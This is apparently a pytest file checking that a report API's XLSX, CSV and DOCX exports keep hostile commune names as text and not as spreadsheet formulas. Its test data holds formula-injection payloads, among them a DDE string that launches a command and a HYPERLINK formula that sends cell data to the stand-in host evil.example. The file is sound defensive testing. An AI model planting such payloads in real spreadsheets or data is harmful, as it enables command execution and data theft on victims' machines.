"""Commune names that a spreadsheet would run as formulas stay text in the monthly report:
an inventory file with such names, the report fetched from the real API (uvicorn), read
back with openpyxl and csv."""

from __future__ import annotations

import csv
import hashlib
import io
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from agent.wire import Envelope, Sample
from collector.config import ApiSection, ApiToken
from collector.outputs.report.cells import csv_cell, starts_formula
from collector.state.health import HealthModel
from collector.state.inventory import load_inventory
from collector.state.store import StateStore
from collector.web.factory import create_app
from tests.servers import AppServer

TOKEN = "report-reader-token"
MONTH, OCT = "2025-10", 1759251600.0  # 1 October 2025, 00:00 in Vietnam
HOSTILE = {
    "tong-hop": '=SUM(1+1)*cmd|" /C calc"!A0',
    "lien-ket": '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "lenh": "@cmd",
    "am": "-2+3",
    "cong": "+1",
    "tab": "\t=1+1",
    "toan-goc": "\uff1d1+1",
    "dieu-khien": "Xã Bell\x07",
}


def inventory_file(tmp_path: Path) -> Path:
    lines = ['province = "dong-nai"', 'name = "Đồng Nai"']
    for slug, name in HOSTILE.items():
        quoted = name.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
        quoted = quoted.replace("\x07", "\\u0007")
        lines += ["[[communes]]", f'slug = "{slug}"', f'name = "{quoted}"']
        lines.append("pcs = 2")
    lines += ["[[communes]]", 'slug = "la-nga"', 'name = "Xã La Ngà"', 'code = "26227"']
    path = tmp_path / "dong-nai.toml"
    path.write_text("\n".join(lines) + "\n")
    return path


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    tmp_path = tmp_path_factory.mktemp("report-cells")
    inventory = load_inventory(inventory_file(tmp_path))
    assert inventory.communes[0].name == HOSTILE["tong-hop"]
    store = StateStore(tmp_path / "state.sqlite")
    for number, slug in enumerate(HOSTILE, 1):
        sample = Sample(
            ts=OCT, check="antivirus", name="antivirus", outcome="ok", target="",
            fields={"verdict": "protected"}, tags={},
        )  # fmt: skip
        store.apply(
            [Envelope(v=1, agent="pc-01", province="dong-nai", commune=slug, seq=number,
                      ts=OCT, samples=[sample])],
            received=OCT,
        )  # fmt: skip
    digest = hashlib.sha256(TOKEN.encode()).hexdigest()
    settings = ApiSection(tokens=[ApiToken(name="ioc", role="read", sha256=digest)])
    served = AppServer(create_app(HealthModel(store, [inventory]), store, settings)).start()
    yield served.url
    served.stop()
    store.close()


def fetch(url: str, fmt: str) -> bytes:
    request = urllib.request.Request(
        f"{url}/api/v1/reports/monthly?month={MONTH}&format={fmt}&lang=en",
        headers={"Authorization": f"Bearer {TOKEN}"},
    )
    with urllib.request.urlopen(request, timeout=20) as response:
        assert response.status == 200
        body: bytes = response.read()
        return body


def test_the_xlsx_holds_hostile_names_as_text_cells_and_numbers_as_numbers(api: str) -> None:
    workbook = load_workbook(io.BytesIO(fetch(api, "xlsx")))
    sheet = workbook.worksheets[1]  # anti-malware: No, Commune, Code, PCs, expected, % …
    rows = {row[1].value: row for row in sheet.iter_rows(min_row=3)}
    for slug, name in HOSTILE.items():
        if slug == "dieu-khien":
            continue
        cells = rows[name]  # the name came back whole, as written
        assert cells[1].data_type == "s", (name, cells[1].data_type)
        assert cells[1].quotePrefix, name  # edited in Excel, it stays text
        assert cells[5].value == 100.0 and cells[5].data_type == "n"  # % protected
        assert (cells[3].value, cells[4].value) == (1, 2)  # PCs reporting, expected: numbers
    # A control character XML cannot hold is left out rather than failing the report.
    assert rows["Xã Bell"][1].data_type == "s" and not rows["Xã Bell"][1].quotePrefix
    # No sheet holds a single formula.
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            assert all(cell.data_type != "f" for cell in row), [c.value for c in row]


def test_the_csv_escapes_hostile_names_with_a_quote_and_leaves_numbers_alone(api: str) -> None:
    data = fetch(api, "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    by_name = {row[0]: row for row in rows[1:]}
    for name in HOSTILE.values():
        if not starts_formula(name):
            continue
        row = by_name["'" + name]
        assert row[4] == "100.0"  # % protected: a number, as before
    assert "Xã La Ngà" in by_name  # ordinary names untouched
    # Nothing in the file starts a formula.
    assert not [cell for row in rows for cell in row if starts_formula(cell)]


def test_the_docx_asked_for_in_english_is_english(api: str) -> None:
    from docx import Document

    document = Document(io.BytesIO(fetch(api, "docx")))
    texts = [p.text for p in document.paragraphs if p.text]
    assert texts[0] == "REPORT" and "I. GENERAL ASSESSMENT" in texts and "ANNEX" in texts
    assert not [t for t in texts if "BÁO CÁO" in t or "Kính gửi" in t or "Căn cứ" in t]
    # The name with a control character XML cannot hold is written without it, rather
    # than failing the document (it answered 500).
    names = {row.cells[1].text for table in document.tables[2:] for row in table.rows}
    assert "Xã Bell" in names and HOSTILE["tong-hop"] in names


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\uff20cmd", "'\uff20cmd"),
        ("Xã La Ngà", "Xã La Ngà"), ("a=b", "a=b"), ("", ""),
        (-2.5, -2.5), (0, 0), (None, None),
    ],
)  # fmt: skip
def test_which_cells_are_escaped(value: str | float | None, written: str | float | None) -> None:
    assert csv_cell(value) == written
